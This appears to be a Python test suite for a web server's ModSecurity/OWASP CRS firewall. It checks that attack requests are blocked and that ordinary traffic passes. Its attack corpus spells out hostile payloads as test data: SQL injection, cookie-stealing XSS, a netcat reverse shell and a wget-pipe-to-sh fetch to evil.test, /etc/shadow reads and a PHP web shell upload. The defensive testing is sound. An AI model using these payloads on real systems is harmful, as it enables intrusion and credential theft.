"""Web application firewall (`waf` key: libmodsecurity3 with the OWASP CRS 3.3.4) on a real server.

What is pinned down: a corpus of CRS attack payloads (SQL injection, XSS, path traversal, remote
command and PHP injection, scanner user agents, protocol attacks) in the query string, form,
JSON and multipart bodies and headers is refused with 403, over HTTP/1.1 and HTTP/2, on a
`respond` route and on a proxied one (the upstream never sees it); a corpus of ordinary browser
and API requests passes untouched at paranoia level 1; detect mode answers 200 and logs; the
access log names the matched rule IDs in both modes; the audit log is ModSecurity's JSON; a body
over `body_limit` is refused with 413 ("reject") or judged on its first bytes and forwarded
whole ("partial"); `waf = false` on a route drops the site's; a response head is judged by
phase-3 rules; a missing or broken rule file fails `wraith check` with the rule file's
FILE:LINE:COL and the waf key's position, and a reload to it is refused while the old generation
serves. One server (CRS loads once per distinct option set) serves every corpus.
"""

import http.client
import http.server
import json
import os
import re
import subprocess
import threading
import time
import unittest

import harness
from harness import WraithTestCase, make_dir, wait_for, write_file

CRS = "/usr/share/modsecurity-crs/owasp-crs.load"
BASE = os.path.join(harness.SOURCE_DIR, "conf", "waf", "modsecurity.conf")
HOST = "app.test"
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
    "Accept-Encoding": "gzip, deflate",
    "Cookie": "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark",
}

# Site-local CRS settings, loaded before the CRS (crs-setup.conf leaves 900200 commented out):
# an API server allows PUT, PATCH and DELETE. A phase-3 rule pins response-head inspection.
LOCAL_BEFORE = """SecAction "id:900200,phase:1,nolog,pass,t:none,\\
  setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'"
"""
LOCAL_AFTER = """SecRule RESPONSE_HEADERS:X-Leak "@streq internal-secret" \\
  "id:100100,phase:3,deny,status:403,log,msg:'internal header leaked'"
"""


class Upstream(http.server.ThreadingHTTPServer):
    """A small local upstream: answers every request with its method, path and body length."""

    def handle_error(self, request, client_address):
        pass  # the proxy closing an idle keep-alive connection is not news

    def __init__(self):
        seen = self.seen = []

        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def answer(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                seen.append((self.command, self.path, body))
                out = f"upstream {self.command} {self.path} {len(body)}\n".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(out)))
                if self.path.startswith("/proxy/leak"):
                    self.send_header("X-Leak", "internal-secret")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(out)

            do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

        super().__init__(("127.0.0.1", 0), H)
        self.daemon_threads = True
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()


def waf(extra="", rules=None):
    rules = rules or ["@DIR@/local-before.conf", BASE, CRS, "@DIR@/local-after.conf"]
    listed = ", ".join(f'"{r}"' for r in rules)
    return f'{{ rules = [{listed}], audit_log = "@DIR@/logs/audit.log"{extra} }}'


def sites(upstream_port):
    return f'''
[upstream.app]
servers = ["127.0.0.1:{upstream_port}"]

[[site]]
hosts = ["{HOST}"]
waf = {waf()}
  [[site.route]]
  path = "/proxy/"
  proxy = {{ upstream = "app" }}
  [[site.route]]
  path = "/partial/"
  waf = {waf(', body_limit = "1k", body_limit_action = "partial"')}
  proxy = {{ upstream = "app" }}
  [[site.route]]
  path = "/open/"
  waf = false
  respond = {{ status = 200, body = "open\\n" }}
  [[site.route]]
  path = "/static/"
  static = {{ root = "@DIR@/www" }}
  [[site.route]]
  path = "/"
  respond = {{ status = 200, body = "ok\\n" }}

[[site]]
hosts = ["detect.test"]
waf = {waf(', mode = "detect"')}
  [[site.route]]
  path = "/"
  respond = {{ status = 200, body = "ok\\n" }}
'''


def multipart(fields, files=()):
    boundary = "----wraithtest7MA4YWxkTrZu0gW"
    out = b""
    for name, value in fields:
        out += (f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                f"{value}\r\n").encode()
    for name, filename, ctype, data in files:
        out += (f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                f'filename="{filename}"\r\nContent-Type: {ctype}\r\n\r\n').encode() + data + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return {"Content-Type": f"multipart/form-data; boundary={boundary}"}, out


def form(text):
    return {"Content-Type": "application/x-www-form-urlencoded"}, text.encode()


def js(obj):
    return {"Content-Type": "application/json"}, json.dumps(obj).encode()


# (name, method, path, extra headers, body): each is refused with 403.
def attacks(prefix="/"):
    p = prefix
    mp_sqli = multipart([("user", "admin' OR '1'='1' --")])
    mp_xss = multipart([("bio", "<script>document.location='http://evil.test/?c='+document.cookie"
                                "</script>")])
    mp_php = multipart([("title", "x")],
                       [("upload", "shell.php", "application/x-php", b"<?php system($_GET['c']); ?>")])
    return [
        ("sqli-or", "GET", p + "?id=1%27%20OR%20%271%27%3D%271", {}, None),
        ("sqli-union", "GET", p + "?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
         {}, None),
        ("sqli-sleep", "GET", p + "?id=1%20AND%20sleep(5)%23", {}, None),
        ("sqli-drop", "GET", p + "?id=1;DROP%20TABLE%20users--", {}, None),
        ("xss-script", "GET", p + "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}, None),
        ("xss-img", "GET", p + "?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", {}, None),
        ("xss-svg", "GET", p + "?q=%3Csvg/onload%3Dalert(1)%3E", {}, None),
        ("traversal", "GET", p + "?file=../../../../etc/passwd", {}, None),
        ("traversal-enc", "GET", p + "?file=..%252f..%252f..%252fetc%252fpasswd", {}, None),
        ("rce-cat", "GET", p + "?cmd=;cat%20/etc/passwd", {}, None),
        ("rce-pipe", "GET", p + "?host=127.0.0.1%7Cnc%20-e%20/bin/sh%20evil.test%204444", {}, None),
        ("rfi", "GET", p + "?page=http://203.0.113.7/shell.txt", {}, None),
        ("php", "GET", p + "?x=%3C?php%20system($_GET[%27c%27]);%20?%3E", {}, None),
        ("restricted-file", "GET", "/.git/config" if p == "/" else p + ".git/config", {}, None),
        ("ua-sqlmap", "GET", p, {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, None),
        ("ua-nikto", "GET", p, {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}, None),
        ("ua-nmap", "GET", p, {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                                             "https://nmap.org/book/nse.html)"}, None),
        ("shellshock", "GET", p, {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, None),
        ("cookie-sqli", "GET", p, {"Cookie": "session=1' OR '1'='1' --"}, None),
        ("referer-xss", "GET", p, {"Referer": "http://x.test/<script>alert(1)</script>"}, None),
        ("response-split", "GET", p + "?lang=en%0d%0aSet-Cookie:%20admin=1", {}, None),
        ("method", "PROPFIND", p, {}, None),
        ("content-type", "POST", p, {"Content-Type": "application/x-evil"}, b"a=b"),
        ("form-sqli", "POST", p + "login", *form("user=admin%27%20OR%201%3D1--&pass=x")),
        ("form-xss", "POST", p + "comment",
         *form("text=%3Cscript%3Ealert(%27x%27)%3C%2Fscript%3E")),
        ("form-rce", "POST", p + "ping", *form("host=127.0.0.1%3B%20cat%20/etc/shadow")),
        ("form-traversal", "POST", p + "read", *form("path=../../../../etc/shadow")),
        ("json-sqli", "POST", p + "api/search",
         *js({"query": "1' UNION SELECT password FROM users --"})),
        ("json-xss", "POST", p + "api/profile", *js({"name": "<svg onload=alert(1)>"})),
        ("json-rce", "POST", p + "api/run",
         *js({"cmd": "; wget http://evil.test/x.sh -O- | sh"})),
        ("multipart-sqli", "POST", p + "upload", *mp_sqli),
        ("multipart-xss", "POST", p + "upload", *mp_xss),
        ("multipart-php-upload", "POST", p + "upload", *mp_php),
    ]


def benign(prefix="/"):
    p = prefix
    up = multipart([("title", "Holiday photos, day 2"), ("tags", "beach, sunset & friends")],
                   [("photo", "IMG_2041.jpg", "image/jpeg",
                     bytes(range(256)) * 8), ])
    notes = multipart([("folder", "work")],
                      [("file", "notes.txt", "text/plain", b"Meeting at 10:00; bring the Q3 report.\n")])
    return [
        ("home", "GET", p, {}, None),
        ("page", "GET", p + "about/team.html", {}, None),
        ("product", "GET", p + "products?id=42&color=blue", {}, None),
        ("search-words", "GET", p + "search?q=hello+world", {}, None),
        ("search-plus", "GET", p + "search?q=C%2B%2B+templates+tutorial", {}, None),
        ("search-apostrophe", "GET", p + "search?q=O%27Reilly+books", {}, None),
        ("search-question", "GET", p + "search?q=what%27s+new%3F", {}, None),
        ("search-price", "GET", p + "search?q=laptop+price+%24500-%24800", {}, None),
        ("search-amp", "GET", p + "search?q=rock+%26+roll", {}, None),
        ("search-email", "GET", p + "search?q=alice%40example.com", {}, None),
        ("search-parens", "GET", p + "search?q=best+coffee+(Berlin)%2C+2024", {}, None),
        ("blog", "GET", p + "blog/2024/05/how-we-moved-to-http3", {}, None),
        ("utm", "GET", p + "?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
         {}, None),
        ("api-list", "GET", p + "api/users?page=2&per_page=50&sort=-created_at", {}, None),
        ("api-fields", "GET", p + "api/items?fields=id,name,price&filter[status]=active",
         {}, None),
        ("calendar", "GET", p + "calendar?from=2024-05-01T10:00:00Z&to=2024-05-31", {}, None),
        ("head", "HEAD", p, {}, None),
        ("preflight", "OPTIONS", p + "api/users",
         {"Origin": "https://app.test", "Access-Control-Request-Method": "PUT"}, None),
        ("bearer", "GET", p + "api/me",
         {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
          "Accept": "application/json"}, None),
        ("json-create", "POST", p + "api/users",
         *js({"name": "Alice Smith", "email": "alice@example.com", "age": 30,
              "tags": ["admin", "beta"]})),
        ("json-update", "PUT", p + "api/users/42",
         *js({"name": "Bob", "bio": "Likes hiking, coffee & open source. Say hi!"})),
        ("json-patch", "PATCH", p + "api/users/42", *js({"active": False, "score": 9.5})),
        ("json-order", "POST", p + "api/orders",
         *js({"items": [{"sku": "A-100", "qty": 2}, {"sku": "B-7", "qty": 1}],
              "note": "Please ring twice (door 3)."})),
        ("delete", "DELETE", p + "api/users/42", {}, None),
        ("login", "POST", p + "login",
         *form("username=alice&password=Secr3t%21%23pass&remember=on")),
        ("comment", "POST", p + "comment",
         *form("name=Jo&text=Great+post%21+Thanks%2C+I%27ll+try+it+%28again%29.")),
        ("newsletter", "POST", p + "subscribe", *form("email=bob%2Bnews%40example.org&lang=en")),
        ("upload-photo", "POST", p + "upload", *up),
        ("upload-notes", "POST", p + "upload", *notes),
        ("address", "POST", p + "checkout",
         *form("street=12+Main+St.%2C+Apt+4B&city=Springfield&zip=12345&country=US")),
    ]


def request(port, method, path, headers=None, body=None, host=HOST):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    h = dict(BROWSER)
    h["Host"] = host
    h.update(headers or {})
    try:
        conn.request(method, path, body=body, headers=h)
        r = conn.getresponse()
        return r.status, r.read()
    finally:
        conn.close()


def h2(port, method, path, headers=None, body=None, host=HOST):
    args = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_version}",
            "--http2-prior-knowledge", "-X", method, "-H", f"Host: {host}"]
    for k, v in {**BROWSER, **(headers or {})}.items():
        args += ["-H", f"{k}: {v}"]
    if body is not None:
        args += ["--data-binary", "@-"]
    args.append(f"http://127.0.0.1:{port}{path}")
    r = subprocess.run(args, input=body, capture_output=True, timeout=30)
    code, version = r.stdout.decode().split()
    return int(code), version


class WafTest(WraithTestCase):
    @classmethod
    def setUpClass(cls):
        cls.upstream = Upstream()
        srv = harness.Wraith(sites(cls.upstream.port), workers=2)
        write_file(srv.path("local-before.conf"), LOCAL_BEFORE.encode())
        write_file(srv.path("local-after.conf"), LOCAL_AFTER.encode())
        write_file(os.path.join(make_dir(srv.path("www", "static")), "index.html"), b"static page\n")
        # The listener speaks HTTP/1.1 and h2c (prior knowledge).
        listen = f'address = "127.0.0.1:{srv.port}"'
        text = srv.render().replace(listen, listen + '\nprotocols = ["http/1.1", "h2c"]', 1)
        srv.write_config(text=text)
        t0 = time.monotonic()
        cls.srv = cls.start_class_server_from(srv)
        print(f"\n[waf] server with 3 rule sets ready in {time.monotonic() - t0:.2f}s")

    @classmethod
    def start_class_server_from(cls, srv):
        cls.class_servers = [srv]
        try:
            srv.start()
        except BaseException:
            srv.cleanup()
            raise
        return srv

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        cls.upstream.shutdown()

    def access_lines(self, marker, count=1):
        def found():
            lines = [line for line in self.srv.read(self.srv.access_log).splitlines()
                     if marker in line]
            return lines if len(lines) >= count else None
        return wait_for(found, timeout=10, what=f"access log lines with {marker}")

    def run_corpus(self, corpus, expect, label, port=None, client=request):
        port = port or self.srv.port
        wrong = []
        for name, method, path, headers, body in corpus:
            status = client(port, method, path, headers, body)[0]
            if status != expect:
                wrong.append(f"{name}: {method} {path} -> {status}")
        print(f"[waf] {label}: {len(corpus) - len(wrong)}/{len(corpus)} answered {expect}")
        self.assertEqual(wrong, [], f"{label}: not {expect}")

    def test_attacks_are_blocked(self):
        corpus = attacks()
        self.assertGreaterEqual(len(corpus), 30)
        self.run_corpus(corpus, 403, "attacks blocked (HTTP/1.1, respond route)")

    def test_benign_requests_pass(self):
        corpus = benign()
        self.assertGreaterEqual(len(corpus), 30)
        self.run_corpus(corpus, 200, "benign passed (HTTP/1.1, respond route)")

    def test_proxied_route_is_protected(self):
        before = len(self.upstream.seen)
        self.run_corpus(attacks("/proxy/"), 403, "attacks blocked (proxied route)")
        self.assertEqual(len(self.upstream.seen), before, "an attack reached the upstream")
        self.run_corpus(benign("/proxy/"), 200, "benign passed (proxied route)")
        # The held body reaches the upstream whole.
        bodies = [b for m, p, b in self.upstream.seen if m in ("POST", "PUT", "PATCH")]
        for name in ("json-create", "login", "upload-photo", "upload-notes"):
            body = [c for c in benign("/proxy/") if c[0] == name][0][4]
            self.assertIn(body, bodies, name)

    def test_http2_requests_are_inspected(self):
        picks = [c for c in attacks() if c[0] in (
            "sqli-or", "xss-script", "traversal", "ua-sqlmap", "form-sqli", "json-xss",
            "multipart-sqli", "cookie-sqli")]
        self.run_corpus(picks, 403, "attacks blocked (HTTP/2)", client=h2)
        good = [c for c in benign() if c[0] in (
            "home", "search-apostrophe", "json-create", "login", "upload-photo", "delete")]
        self.run_corpus(good, 200, "benign passed (HTTP/2)", client=h2)
        self.assertEqual(h2(self.srv.port, "GET", "/")[1], "2")
        self.assertEqual(h2(self.srv.port, "GET", "/proxy/?q=%3Cscript%3Ealert(1)%3C/script%3E")[0],
                         403)

    def test_rule_ids_in_access_log_and_audit_log(self):
        status, _ = request(self.srv.port, "GET", "/ids-block?id=1%27%20OR%20%271%27%3D%271")
        self.assertEqual(status, 403)
        line = self.access_lines("/ids-block")[0]
        m = re.search(r" waf=([0-9,]+)", line)
        self.assertIsNotNone(m, line)
        ids = m.group(1).split(",")
        self.assertIn("949110", ids, line)
        self.assertTrue(any(i.startswith("942") for i in ids), line)
        # ModSecurity's JSON audit log has the transaction with the same rules.
        def audit():
            for raw in self.srv.read(self.srv.path("logs", "audit.log")).splitlines():
                entry = json.loads(raw)
                if entry["transaction"]["request"]["uri"].startswith("/ids-block"):
                    return entry
            return None
        try:
            entry = wait_for(audit, timeout=5, what="the audit log entry")
        except AssertionError:
            self.fail(self.srv.read(self.srv.path("logs", "audit.log"))[-3000:])
        self.assertEqual(entry["transaction"]["response"]["http_code"], 403)
        rules = {msg["details"]["ruleId"] for msg in entry["transaction"]["messages"]}
        self.assertIn("949110", rules)

    def test_detect_mode_only_logs(self):
        status, body = request(self.srv.port, "GET", "/detect-me?id=1%27%20OR%20%271%27%3D%271",
                               host="detect.test")
        self.assertEqual((status, body), (200, b"ok\n"))
        line = self.access_lines("/detect-me")[0]
        self.assertRegex(line, r" 200 .* waf=[0-9,]*949110")
        status, _ = request(self.srv.port, "POST", "/detect-form", *form("q=%3Cscript%3Ealert(1)"
                                                                           "%3C%2Fscript%3E"),
                            host="detect.test")
        self.assertEqual(status, 200)
        self.assertRegex(self.access_lines("/detect-form")[0], r" waf=[0-9,]*941")

    def test_waf_false_drops_the_sites_filter(self):
        status, body = request(self.srv.port, "GET", "/open/?id=1%27%20OR%20%271%27%3D%271")
        self.assertEqual((status, body), (200, b"open\n"))
        self.assertEqual(request(self.srv.port, "GET", "/static/?id=1%20UNION%20SELECT%201,2--")[0],
                         403)
        self.assertEqual(request(self.srv.port, "GET", "/static/index.html"),
                         (200, b"static page\n"))

    def test_body_limit(self):
        # Past body_limit (128k) with "reject": 413 before the body is read.
        big = form("data=" + "a" * (200 * 1024))
        self.assertEqual(request(self.srv.port, "POST", "/proxy/big", *big)[0], 413)
        self.assertRegex(self.access_lines("/proxy/big")[0], r" 413 .* waf=body_limit")
        # Within it: judged whole and forwarded.
        ok = form("data=" + "a" * (100 * 1024))
        status, body = request(self.srv.port, "POST", "/proxy/fits", *ok)
        self.assertEqual((status, body), (200, f"upstream POST /proxy/fits {len(ok[1])}\n".encode()))
        # "partial" (1k): the first KiB is judged, the whole body goes on.
        text = form("note=" + "hello+world+" * 400)
        status, body = request(self.srv.port, "POST", "/partial/long", *text)
        self.assertEqual((status, body),
                         (200, f"upstream POST /partial/long {len(text[1])}\n".encode()))
        evil = form("q=1%27%20UNION%20SELECT%20password%20FROM%20users--&pad=" + "x" * 4000)
        self.assertEqual(request(self.srv.port, "POST", "/partial/evil", *evil)[0], 403)

    def test_response_head_is_inspected(self):
        self.assertEqual(request(self.srv.port, "GET", "/proxy/leak")[0], 403)
        self.assertRegex(self.access_lines("/proxy/leak")[0], r" 403 .* waf=[0-9,]*100100")
        self.assertEqual(request(self.srv.port, "GET", "/proxy/fine")[0], 200)


class WafConfigTest(WraithTestCase):
    SITE = '''[[site]]
hosts = ["*"]
waf = {{ rules = [{rules}] }}
  [[site.route]]
  path = "/"
  respond = {{ status = 200, body = "ok\\n" }}
'''

    def config(self, srv, rules):
        return self.SITE.format(rules=", ".join(f'"{r}"' for r in rules))

    def waf_line(self, srv):
        with open(srv.conf) as f:
            return next(i for i, line in enumerate(f, 1) if line.startswith("waf ="))

    def test_broken_rule_file_fails_check_with_its_position(self):
        srv = self.server("", start=False)
        bad = srv.path("bad.conf")
        write_file(bad, b"SecRuleEngine On\n# a comment\nSecRule ARGS \"@rx x\" \"id:1,phase:2,deny\"\n"
                        b"SecBogusDirective On\n")
        srv.write_config(sites=self.config(srv, [BASE, bad]))
        r = srv.cli("check")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertRegex(r.stderr, rf"(?m)^{re.escape(bad)}:4:\d+: waf: invalid directive", r.stderr)
        self.assertRegex(r.stderr, rf"(?m)^{re.escape(srv.conf)}:{self.waf_line(srv)}:\d+: "
                                   rf"waf: rule file \"{re.escape(bad)}\" did not load", r.stderr)

    def test_missing_rule_file_fails_check(self):
        srv = self.server("", start=False)
        missing = srv.path("missing.conf")
        srv.write_config(sites=self.config(srv, [missing]))
        r = srv.cli("check")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertRegex(r.stderr, rf"(?m)^{re.escape(srv.conf)}:{self.waf_line(srv)}:\d+: "
                                   rf"waf: cannot read rule file \"{re.escape(missing)}\"")

    def test_reload_to_broken_rules_is_refused(self):
        srv = harness.Wraith("", workers=1)
        self.servers.append(srv)
        rules = srv.path("rules.conf")
        write_file(rules, b'SecRule ARGS:block "@streq yes" "id:100200,phase:1,deny,status:403"\n')
        srv.write_config(sites=self.config(srv, [BASE, rules]))
        srv.start()
        self.assertEqual(request(srv.port, "GET", "/?block=yes")[0], 403)
        self.assertEqual(request(srv.port, "GET", "/?block=no")[0], 200)
        old = srv.record_children()
        write_file(rules, b'SecRule ARGS:block "@streq yes" "id:100200,phase:1,deny,status:403"\n'
                          b'SecBogusDirective On\n')
        r = srv.reload()
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertRegex(r.stderr, rf"(?m)^{re.escape(rules)}:2:\d+: waf: ", r.stderr)
        self.assertEqual(request(srv.port, "GET", "/?block=yes")[0], 403)
        self.assertEqual(srv.record_children(), old, "workers changed after a refused reload")
        os.unlink(rules)
        r = srv.reload()
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("cannot read rule file", r.stderr)
        self.assertEqual(request(srv.port, "GET", "/?block=no")[0], 200)


if __name__ == "__main__":
    unittest.main()
